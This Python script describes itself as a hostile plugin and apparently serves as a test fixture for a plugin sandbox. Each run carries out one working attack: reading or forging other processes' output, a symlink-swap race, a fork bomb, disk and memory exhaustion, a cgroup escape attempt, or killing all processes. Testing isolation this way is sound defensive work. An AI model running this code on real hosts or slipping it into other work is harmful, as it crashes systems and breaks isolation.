#!/usr/bin/python3
"""A hostile plugin: each run does one of these to its neighbours, the host and the agent."""
import ctypes
import glob
import mmap
import os
import signal
import sys
import time

scratch = os.environ["PLUGIN_SCRATCH"]
turn_file = os.path.join(scratch, "turn")
try:
    with open(turn_file) as file:
        turn = int(file.read() or 0)
except (OSError, ValueError):
    turn = 0
with open(turn_file, "w") as file:
    file.write(str(turn + 1))


def say(what):
    # printed as a metric: what it got is seen in what arrives
    print('[{"name":"stolen","value":1,"tags":{"what":"%s"}}]' % what, flush=True)


def touch_neighbours():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        try:
            with open("/proc/%s/environ" % pid, "rb") as file:
                if b"PLUGIN_RUN" in file.read() and os.stat("/proc/" + pid).st_uid != os.getuid():
                    return say("environment")
        except OSError:
            pass
        try:
            if os.stat("/proc/" + pid).st_uid != os.getuid():
                with open("/proc/%s/fd/1" % pid, "w") as file:
                    file.write('[{"name":"forged","value":1}]')
                    return say("output")
        except OSError:
            pass
    base = os.path.dirname(os.path.dirname(scratch))
    for other in glob.glob(base + "/*/*") + [os.path.join(base, "test.loda", "good%d" % i) for i in range(5)]:
        if os.path.abspath(other) != os.path.abspath(scratch):
            try:
                with open(os.path.join(other, "mine"), "w") as file:
                    file.write("x")
                return say("scratch")
            except OSError:
                pass
    print("[]")


def take_disk():
    for place in (scratch, "/dev/shm", "/tmp"):
        try:
            path = os.path.join(place, "hog-%d" % os.getpid())
            file = open(path, "wb")
            os.unlink(path)
            for _ in range(60):
                file.write(b"x" * (1 << 20))
            file.flush()
            globals()["keep" + place.replace("/", "_")] = file
        except OSError:
            pass
    time.sleep(3)


def swap_scratch():
    """Folders become links to what is root's while somebody looks at or empties this folder."""
    canary = sys.argv[2]
    one, other = os.path.join(scratch, "folder"), os.path.join(scratch, "link")
    os.makedirs(one, exist_ok=True)
    for i in range(2000):
        open(os.path.join(one, "f%d" % i), "w").close()
    try:
        os.symlink(canary, other)
        os.mkfifo(os.path.join(scratch, "fifo"))
    except OSError:
        pass
    libc = ctypes.CDLL(None)
    if os.fork() == 0:
        os.setsid()
        end = time.monotonic() + 30
        while time.monotonic() < end:
            libc.renameat2(-100, one.encode(), -100, other.encode(), 2)
        os._exit(0)
    with open(os.path.join(scratch, "too-much"), "wb") as file:
        for _ in range(40):
            file.write(b"x" * (1 << 20))
    time.sleep(2)


def deep():
    os.chdir(scratch)
    for _ in range(300):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    with open("hidden", "wb") as file:
        file.write(b"x" * (20 << 20))


def memory():
    for _ in range(4):
        if os.fork() == 0:
            block = mmap.mmap(-1, 200 << 20)
            for i in range(0, 200 << 20, 4096):
                block[i] = 1
            time.sleep(20)
            os._exit(0)
    time.sleep(20)


def flood():
    line = b"a v=1\n" * 10000
    for _ in range(17):
        sys.stdout.buffer.write(line)
    sys.stdout.flush()


def forks():
    for _ in range(300):
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
        except OSError:
            break
    time.sleep(5)


def wide():
    print("wide " + ",".join("f%d=1" % i for i in range(100000)))


def escape():
    """Out of its session, its environment and, where it may, its group; and it holds stdout open."""
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            for procs in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True):
                try:
                    with open(procs, "w") as file:
                        file.write(str(os.getpid()))
                except OSError:
                    pass
            os.execve("/bin/sleep", ["sleep", "60"], {})
    print("[]")


def kill_all():
    print("[]", flush=True)
    os.kill(-1, signal.SIGKILL)


turns = [touch_neighbours, take_disk, swap_scratch, flood, forks, wide, escape, memory, deep, kill_all]
turns[(turn + int(sys.argv[1])) % len(turns)]()
